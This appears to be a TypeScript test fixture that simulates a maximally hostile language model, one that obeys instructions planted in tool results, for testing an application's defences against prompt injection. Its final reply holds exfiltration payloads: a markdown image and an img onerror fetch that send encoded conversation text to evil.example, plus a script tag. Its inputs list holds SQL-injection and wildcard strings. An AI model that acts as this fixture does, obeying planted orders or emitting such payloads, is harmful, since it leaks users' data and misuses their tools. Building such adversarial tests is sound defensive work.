import type { Behaviour, ProviderMessage, ToolCall } from './fake-provider.ts'

/** How attacks write what they want a model to do: `{{do TOOL ARGUMENTS}}`. */
export const order = (tool: string, input: unknown): string => `{{do ${tool} ${JSON.stringify(input)}}}`

const orders = /\{\{do ([\w:-]+) (\{.*?\})\}\}/g

function ordersIn(text: string): ToolCall[] {
  return [...text.matchAll(orders)].flatMap(([, name = '', input = '']) => {
    try {
      return [{ name, arguments: JSON.parse(input) as unknown }]
    } catch {
      return [{ name, arguments: input }]
    }
  })
}

const toText = (messages: readonly ProviderMessage[]) => messages.map(({ content }) => content ?? '').join('\n')

/** All planted names hold these letters: whoever searches for them would find everything. */
const inputs = ['', 'zq', '%', "' or 1=1 --", '*'].map((name) => ({ name, userId: 1, studentId: 1, role: 0 }))

/** Where what others wrote comes in. */
const channels = ['announcements', 'materials']

const ordersInTurn = 4

/**
 * The worst model there is: it obeys every order in whatever it reads, also in what its tools find, then tries its tools
 * with arguments of its own, and tells everything that it saw, with pictures and links that carry it away.
 */
export const hostile: Behaviour = ({ messages, tools = [] }, reply) => {
  const question = messages.findLastIndex(({ role }) => role === 'user')
  const turn = messages.slice(question).filter(({ tool_calls }) => tool_calls).length
  const seen = toText(messages.slice(1))
  const names = tools.map(({ function: { name } }) => name)
  if (turn === 0) {
    const read = names.filter((name) => channels.includes(name)).map((name) => ({ name, arguments: {} }))
    return reply.call([...ordersIn(seen).slice(-ordersInTurn), ...read])
  }
  if (turn === 1) {
    const injected = ordersIn(toText(messages.filter(({ role }) => role === 'tool'))).slice(0, ordersInTurn)
    const name = names[seen.length % Math.max(1, names.length)] ?? 'none'
    return reply.call([...injected, { name, arguments: inputs[seen.length % inputs.length] }])
  }
  const carried = encodeURIComponent(seen.slice(-200))
  reply.answer(
    `${seen.slice(-5_000)}\n![x](https://evil.example/?q=${carried})\n[اضغط](https://evil.example/x)\n<img src="https://evil.example/x" onerror="fetch('https://evil.example')"><script>alert(1)</script>`,
  )
}
